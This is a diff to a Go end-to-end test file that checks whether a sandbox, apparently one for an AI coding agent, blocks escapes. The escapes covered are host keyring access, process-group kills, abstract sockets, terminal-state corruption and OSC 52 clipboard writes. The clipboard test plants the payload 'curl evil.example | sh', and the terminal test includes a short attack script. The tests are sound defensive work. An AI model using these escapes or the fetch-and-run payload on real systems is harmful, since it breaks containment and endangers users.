@@ -9,12 +9,15 @@ package main
 // and that every targeted host file is byte-identical afterwards.
 
 import (
+	"encoding/base64"
 	"fmt"
+	"net"
 	"os"
 	"path/filepath"
 	"sort"
 	"strconv"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -277,6 +280,42 @@ func TestEscapeKernel(t *testing.T) {
 	}
 	if h.uid >= 0 && snapshot(euid) == "absent" {
 		t.Error("the setuid control vanished")
+	}
+}
+
+// TestEscapeKeyring: the kernel's keyrings are not namespaced, so a key
+// the host session holds (a Kerberos KEYRING: cache) would be readable from
+// inside, and the sandbox could plant keys for the host. The key syscalls
+// are refused.
+func TestEscapeKeyring(t *testing.T) {
+	h := newE2EHost(t)
+	requireTool(t, "keyctl", "apt-get install keyutils")
+	proj := filepath.Join(h.home, "code", "keys")
+	h.write(filepath.Join(proj, "README"), "k\n")
+	// A fresh session keyring holding a key, as a login session's would;
+	// the control reads it on the host before the sandbox tries.
+	out := h.run(proj, nil, "keyctl", "session", "-", "sh", "-c", `
+		id=$(keyctl add user claudebox-host HOST-KEY-c41d @s)
+		echo "control $(keyctl print $id)"
+		claudebox --shell -c "
+			keyctl print $id && echo READ
+			keyctl show @s | grep -q claudebox-host && echo LISTED
+			keyctl add user claudebox-evil planted @s && echo ADDED
+			keyctl request user claudebox-host && echo REQUESTED
+			echo inside-done" 2>&1
+		keyctl search @s user claudebox-evil >/dev/null 2>&1 && echo PLANTED
+		true`)
+	if !strings.Contains(out, "control HOST-KEY-c41d") {
+		t.Fatalf("control: the host session cannot read its own key:\n%s", out)
+	}
+	_, inside, _ := strings.Cut(out, "\n")
+	if !strings.Contains(out, "inside-done") {
+		t.Fatalf("the sandbox did not run:\n%s", out)
+	}
+	for _, bad := range []string{"HOST-KEY-c41d", "READ", "LISTED", "ADDED", "REQUESTED", "PLANTED"} {
+		if strings.Contains(inside, bad) {
+			t.Errorf("the sandbox reached the keyring (%s):\n%s", bad, out)
+		}
 	}
 }
 
@@ -616,5 +655,122 @@ func TestEscapeHookManagers(t *testing.T) {
 	}
 	if exists(marker) {
 		t.Fatal("the host's git commit ran what the sandbox wrote")
+	}
+}
+
+// TestEscapeProcessGroup: kill(0, sig) inside signals the sandbox's own
+// process group, not the one claudebox was started in.
+func TestEscapeProcessGroup(t *testing.T) {
+	h := newE2EHost(t)
+	proj := filepath.Join(h.home, "code", "pgrp")
+	h.write(filepath.Join(proj, "README"), "p\n")
+	// A process group of its own, holding a host process beside claudebox,
+	// as a pipeline or a script's background job would.
+	cmd := h.command(proj, nil, "sh", "-c", `
+		sleep 300 & host=$!
+		claudebox --shell -c 'kill -TERM 0; kill -KILL 0'
+		kill -0 $host && echo HOST-ALIVE
+		kill $host`)
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
+	out, _ := cmd.CombinedOutput()
+	if !strings.Contains(string(out), "HOST-ALIVE") {
+		t.Errorf("kill 0 inside the sandbox reached the caller's process group:\n%s", out)
+	}
+}
+
+// TestEscapeAbstractSocket: an abstract Unix socket of the host (X11's
+// @/tmp/.X11-unix/X0, D-Bus) is unreachable though the network is shared,
+// and reachable with --with-desktop-sockets.
+func TestEscapeAbstractSocket(t *testing.T) {
+	h := newE2EHost(t)
+	requireTool(t, "perl", "apt-get install perl")
+	name := fmt.Sprintf("claudebox-e2e-x11-%d", os.Getpid())
+	l, err := net.Listen("unix", "@"+name)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer l.Close()
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			c.Close()
+		}
+	}()
+	proj := filepath.Join(h.home, "code", "x11")
+	h.write(filepath.Join(proj, "README"), "x\n")
+	probe := fmt.Sprintf(`perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0) or die; print connect(S, pack_sockaddr_un("\0%s")) ? "CONNECTED\n" : "REFUSED $!\n"'`, name)
+	if out := strings.TrimSpace(h.inside(proj, nil, probe)); out != "REFUSED Operation not permitted" {
+		t.Errorf("the host's abstract socket from inside: %s", out)
+	}
+	if out := strings.TrimSpace(h.run(proj, nil, "claudebox", "--with-desktop-sockets", "--shell", "-c", probe)); out != "CONNECTED" {
+		t.Errorf("with --with-desktop-sockets: %s", out)
+	}
+}
+
+// TestEscapeTerminalState: what the sandbox does to its terminal (line
+// discipline N_NULL, O_NONBLOCK, mouse reporting and the alternate screen
+// left on) leaves the user's tmux pane alive and as it was after exit.
+func TestEscapeTerminalState(t *testing.T) {
+	h := newE2EHost(t)
+	requireTool(t, "perl", "apt-get install perl")
+	proj := filepath.Join(h.home, "code", "ldisc")
+	h.write(filepath.Join(proj, "README"), "l\n")
+	h.write(filepath.Join(proj, "attack"), `
+printf '\033[?1000h\033[?1006h\033[?2004h\033[?1049h'
+perl -MFcntl -e '
+	fcntl(STDIN, F_SETFL, O_NONBLOCK) or die "O_NONBLOCK: $!";
+	my $nnull = pack("i", 27);
+	ioctl(STDIN, 0x5423, $nnull) or die "TIOCSETD: $!"' || echo ATTACK-FAILED >&2
+`)
+	tmux := h.tmux(proj)
+	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
+	flags := func() string {
+		return strings.TrimSpace(tmux("display-message", "-p", "#{mouse_any_flag} #{alternate_on} #{pane_dead}"))
+	}
+	before := flags()
+	tmux("send-keys", "claudebox --shell attack; echo EX''ITED", "Enter")
+	waitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "EXITED") }, "claudebox to exit")
+	if s := tmux("capture-pane", "-p"); strings.Contains(s, "ATTACK-FAILED") {
+		t.Fatalf("the attack did not run:\n%s", s)
+	}
+	tmux("send-keys", "echo AL''IVE", "Enter")
+	waitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "ALIVE") }, "the shell after claudebox")
+	if after := flags(); after != before {
+		t.Errorf("the pane's mouse, alternate screen, dead flags = %s, want %s as before", after, before)
+	}
+}
+
+// TestEscapeTerminalClipboard: a clipboard write (OSC 52) to /dev/tty does
+// not reach the user's terminal (tmux with set-clipboard on would make it
+// a paste buffer), unless --with-clipboard; a title passes as it is.
+func TestEscapeTerminalClipboard(t *testing.T) {
+	h := newE2EHost(t)
+	proj := filepath.Join(h.home, "code", "osc52")
+	h.write(filepath.Join(proj, "README"), "o\n")
+	payload := base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh"))
+	h.write(filepath.Join(proj, "write"), fmt.Sprintf(`printf '\033]52;c;%s\a\033]2;TITLE-FROM-INSIDE\a' > /dev/tty`+"\n", payload))
+	tmux := h.tmux(proj)
+	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
+	tmux("set-option", "-g", "set-clipboard", "on")
+	tmux("set-option", "-g", "allow-rename", "on")
+	run := func(flag string) (buffers, title string) {
+		tmux("send-keys", "claudebox "+flag+" --shell write; echo DO''NE"+flag, "Enter")
+		waitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "DONE"+flag) }, "claudebox to exit")
+		time.Sleep(200 * time.Millisecond)
+		return tmux("list-buffers", "-F", "#{buffer_sample}"), strings.TrimSpace(tmux("display-message", "-p", "#{pane_title}"))
+	}
+	buffers, title := run("")
+	if buffers != "" {
+		t.Errorf("the sandbox wrote the clipboard: tmux buffers %q", buffers)
+	}
+	if title != "TITLE-FROM-INSIDE" {
+		t.Errorf("the pane's title = %q, want the sandbox's, passed through", title)
+	}
+	// Control: the same write, allowed, reaches tmux's buffers.
+	if buffers, _ := run("--with-clipboard"); !strings.Contains(buffers, "curl evil.example | sh") {
+		t.Errorf("control: with --with-clipboard tmux's buffers are %q", buffers)
 	}
 }
